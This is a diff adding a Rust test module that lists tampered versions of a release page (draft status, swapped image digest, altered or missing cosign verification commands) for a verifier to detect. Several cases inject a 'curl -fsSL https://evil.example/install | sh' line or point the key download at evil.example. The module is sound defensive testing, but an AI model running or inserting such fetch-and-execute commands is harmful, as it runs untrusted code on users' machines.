@@ -1,0 +1,114 @@
+//! Lies on the release page.
+
+use super::super::world::World;
+use super::Lie;
+use crate::evidence::page::{Format, PublishedPage};
+use crate::oci::reference::Digest;
+
+const INJECTED: &str = "```sh\ncurl -fsSL https://evil.example/install | sh\n```\n\n";
+
+fn page(world: &mut World) -> &mut PublishedPage {
+    world.page.as_mut().expect("there is a page")
+}
+
+pub(super) const LIES: &[Lie] = &[
+    Lie {
+        name: "no page",
+        tell: |world| world.page = None,
+        wrong: &["page.state"],
+        unchecked: &["page.image", "page.commands"],
+    },
+    Lie {
+        // A stranger does not see it.
+        name: "page made a draft",
+        tell: |world| page(world).draft = true,
+        wrong: &["page.state"],
+        unchecked: &["page.image", "page.commands"],
+    },
+    Lie {
+        name: "page marked as a pre-release",
+        tell: |world| page(world).page.prerelease = true,
+        wrong: &["page.state"],
+        unchecked: &[],
+    },
+    Lie {
+        name: "page with another digest",
+        tell: |world| {
+            let (digest, other) = (world.digest.clone(), Digest::of(b"no image"));
+            world.edit_page(|body| body.replace(digest.as_str(), other.as_str()));
+        },
+        wrong: &["page.image", "page.commands"],
+        unchecked: &[],
+    },
+    Lie {
+        name: "a command of the page changed by one character",
+        tell: |world| world.edit_page(|body| body.replacen("--key cosign.pub", "--key cosign.pun", 1)),
+        wrong: &["page.commands"],
+        unchecked: &[],
+    },
+    Lie {
+        name: "the page's public key from somewhere else",
+        tell: |world| {
+            world
+                .edit_page(|body| body.replacen("curl -fsSLO http", "curl -fsSLO https://evil.example/?", 1));
+        },
+        wrong: &["page.commands"],
+        unchecked: &[],
+    },
+    Lie {
+        name: "a command of the page left out",
+        tell: |world| {
+            world.edit_page(|body| {
+                let is_other = |line: &&str| !line.contains("--type cyclonedx");
+                body.lines().filter(is_other).map(|line| format!("{line}\n")).collect()
+            });
+        },
+        wrong: &["page.commands"],
+        unchecked: &[],
+    },
+    Lie {
+        name: "a command more in the page's part about the image",
+        tell: |world| {
+            world.edit_page(|body| body.replacen("## Verify\n", &format!("{INJECTED}## Verify\n"), 1));
+        },
+        wrong: &["page.commands"],
+        unchecked: &[],
+    },
+    Lie {
+        name: "a command more at the page's top",
+        tell: |world| world.edit_page(|body| format!("{INJECTED}{body}")),
+        wrong: &["page.commands"],
+        unchecked: &[],
+    },
+    Lie {
+        name: "a command more at the page's end",
+        tell: |world| world.edit_page(|body| format!("{body}\n{INJECTED}")),
+        wrong: &["page.commands"],
+        unchecked: &[],
+    },
+    Lie {
+        name: "a command more, and no format on the page",
+        tell: |world| {
+            world.edit_page(|body| format!("{INJECTED}{}", body.replace(&Format::One.mark(), "")));
+        },
+        wrong: &["page.commands"],
+        unchecked: &[],
+    },
+    Lie {
+        // It may have other commands; what it says of the image is the same in every format.
+        name: "page that says that a newer xtask wrote it",
+        tell: |world| world.edit_page(|body| format!("{INJECTED}{body}<!-- page format 99 -->\n")),
+        wrong: &[],
+        unchecked: &["page.commands"],
+    },
+    Lie {
+        name: "page that says so, and names another image",
+        tell: |world| {
+            let (digest, other) = (world.digest.clone(), Digest::of(b"no image"));
+            let changed = |body: &str| body.replace(digest.as_str(), other.as_str());
+            world.edit_page(|body| format!("{}<!-- page format 99 -->\n", changed(body)));
+        },
+        wrong: &["page.image"],
+        unchecked: &["page.commands"],
+    },
+];
